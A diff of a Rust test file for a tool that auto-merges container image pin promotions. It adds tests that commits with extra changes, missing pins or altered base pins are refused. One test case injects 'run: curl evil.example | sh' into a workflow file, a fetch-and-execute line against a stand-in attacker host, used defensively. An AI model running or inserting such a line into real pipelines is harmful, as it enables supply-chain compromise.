@@ -6,7 +6,10 @@ use std::fs;
 use serde_json::Value;
 
 use crate::support::{
-    forge::{self as fakes, Fake, Kind, When},
+    forge::{
+        self as fakes, Fake, Kind, When,
+        store::{CommitRow, Files, Store},
+    },
     hosted::{A, PROMOTE, SERVERS, WAIT, hosted, hosted_in, publish, run},
     world::{self, REV_A, REV_B, Ran, World},
 };
@@ -193,7 +196,7 @@ fn merge_base_into(fake: &Fake, files: &[(&str, &str)]) {
         tree.insert((*path).to_owned(), ("100644".to_owned(), blob));
     }
     let tree = store.put_tree(tree);
-    let id = store.put_commit(fakes::store::CommitRow {
+    let id = store.put_commit(CommitRow {
         tree,
         parents: vec![ours, base],
         message: "Merge branch 'main'".to_owned(),
@@ -256,60 +259,130 @@ fn commit_that_leaves_pins_is_not_merged() {
     }
 }
 
+/// Adds a commit to the branch of the pull request, or replaces its commit.
+fn commit(fake: &Fake, replaces: bool, edit: impl FnOnce(&mut Store, &mut Files)) {
+    let mut store = fake.store();
+    let head = store.pulls[0].head.clone();
+    let ours = store.refs[&head].clone();
+    let mut files = store.files_of(&ours).clone();
+    edit(&mut store, &mut files);
+    let tree = store.put_tree(files);
+    let parents = if replaces {
+        store.commits[&ours].parents.clone()
+    } else {
+        vec![ours]
+    };
+    let message = trailer(Opened::Promotion);
+    let id = store.put_commit(CommitRow {
+        tree,
+        parents,
+        message,
+    });
+    store.refs.insert(head, id);
+}
+
 #[test]
 fn commit_with_other_changes_is_not_merged() {
+    let cases = [
+        "file",
+        "new file",
+        "configuration",
+        "line of a file with pins",
+        "digest outside files",
+        "deletion",
+        "mode",
+        "symlink",
+    ];
     for kind in SERVERS {
-        for case in [
-            "file",
-            "new file",
-            "configuration",
-            "line of a file with pins",
-            "digest outside files",
-            "deletion",
-            "mode",
-            "symlink",
-        ] {
+        for (case, replaces) in cases
+            .iter()
+            .flat_map(|case| [(*case, false), (*case, true)])
+        {
             let (world, fake) = opened(kind, Opened::Promotion);
-            let head = branch(&fake);
+            // Promoted, but not counted.
+            let pin =
+                |revision| format!("ghcr.io/acme/review@{}", world.digest("review", revision));
+            fake.store()
+                .push("main", "a pin", &[("deploy.yml", &pin(REV_A))]);
+            merge_base_into(&fake, &[]);
             let none = ".github/workflows/none.yml";
+            let head = branch(&fake);
             let planned = fake.store().content(&head, A);
-            let message = trailer(Opened::Promotion);
-            let path = match case {
-                "deletion" | "mode" | "symlink" => {
-                    let mut store = fake.store();
-                    let ours = store.refs[&head].clone();
-                    let mut files = store.files_of(&ours).clone();
-                    match case {
-                        "deletion" => drop(files.remove(none)),
-                        "mode" => "100755".clone_into(&mut files.get_mut(A).unwrap().0),
-                        _ => "120000".clone_into(&mut files.get_mut(none).unwrap().0),
-                    }
-                    let tree = store.put_tree(files);
-                    let parents = vec![ours];
-                    let id = store.put_commit(fakes::store::CommitRow {
-                        tree,
-                        parents,
-                        message,
-                    });
-                    store.refs.insert(head, id);
-                    if case == "mode" { A } else { none }
-                }
-                _ => {
-                    let pin = format!("ghcr.io/acme/review@{}", world.digest("review", REV_B));
-                    let (path, text) = match case {
-                        "file" => (none, "on: pull_request_target\n".to_owned()),
-                        "new file" => ("notes", "mine".to_owned()),
-                        "configuration" => ("repin.yaml", world.read("repin.yaml") + "# x\n"),
-                        "digest outside files" => ("deploy.yml", pin),
-                        _ => (A, planned + "run: curl evil.example | sh\n"),
-                    };
-                    fake.store().push(&head, &message, &[(path, &text)]);
-                    path
-                }
+            let (path, text) = match case {
+                "deletion" | "symlink" => (none, None),
+                "mode" => (A, None),
+                "file" => (none, Some("on: pull_request_target\n".to_owned())),
+                "new file" => ("notes", Some("mine".to_owned())),
+                "configuration" => ("repin.yaml", Some(world.read("repin.yaml") + "# x\n")),
+                "digest outside files" => ("deploy.yml", Some(pin(REV_B))),
+                _ => (A, Some(planned + "run: curl evil.example | sh\n")),
             };
+            commit(&fake, replaces, |store, files| match (case, text) {
+                (_, Some(text)) => {
+                    let blob = store.put_blob(text.as_bytes());
+                    files.insert(path.to_owned(), ("100644".to_owned(), blob));
+                }
+                ("deletion", _) => drop(files.remove(path)),
+                ("mode", _) => "100755".clone_into(&mut files.get_mut(path).unwrap().0),
+                _ => "120000".clone_into(&mut files.get_mut(path).unwrap().0),
+            });
             arm(&fake);
-            is_refused(&world, &fake, path, &format!("{kind:?} {case}"));
+            let case = format!("{kind:?} {case}, replaces: {replaces}");
+            is_refused(&world, &fake, path, &case);
         }
+    }
+}
+
+#[test]
+fn commit_without_a_pin_is_not_merged() {
+    for kind in SERVERS {
+        let (world, fake) = opened(kind, Opened::Promotion);
+        let head = branch(&fake);
+        let planned = fake.store().content(&head, B);
+        let fewer = planned.replace("ghcr.io/acme/fix@", "ghcr.io/acme/fix:");
+        commit(&fake, true, |store, files| {
+            let blob = store.put_blob(fewer.as_bytes());
+            files.insert(B.to_owned(), ("100644".to_owned(), blob));
+        });
+        arm(&fake);
+        let reason = "its pins are not those of the set: the new contents would pin it 0 times";
+        is_refused(&world, &fake, reason, &format!("{kind:?}"));
+    }
+}
+
+#[test]
+fn base_with_a_part_of_the_set_is_merged_into() {
+    for kind in SERVERS {
+        let (world, fake) = opened(kind, Opened::Promotion);
+        fake.store().github.delay = 0;
+        // One file has the new pins already, and the other one another line.
+        let head = branch(&fake);
+        let planned = fake.store().content(&head, B);
+        let longer = "# more\n".to_owned() + &fake.store().content("main", A);
+        let files = [(A, longer.as_str()), (B, &planned)];
+        fake.store().push("main", "a part", &files);
+        fake.when(2, |store| store.report("ci", "success"));
+        is_merged(&world, &fake, &format!("{kind:?}"));
+        let merged = fake.store().content("main", A);
+        let digest = world.digest("review", REV_B);
+        assert!(
+            merged.starts_with("# more\n") && merged.contains(&digest),
+            "{merged}"
+        );
+    }
+}
+
+#[test]
+fn base_with_other_pins_is_not_merged_into() {
+    for kind in SERVERS {
+        let (world, fake) = opened(kind, Opened::Promotion);
+        // git would merge this line, because the pull request does not change it.
+        let [old, new] = [REV_A, REV_B].map(|revision| world.digest("fix", revision));
+        let longer = fake.store().content("main", B).replacen(&old, &new, 1);
+        fake.store().push("main", "one pin", &[(B, &longer)]);
+        arm(&fake);
+        let reason = format!("the base changed the pins in {B}");
+        is_refused(&world, &fake, &reason, &format!("{kind:?}"));
     }
 }
 
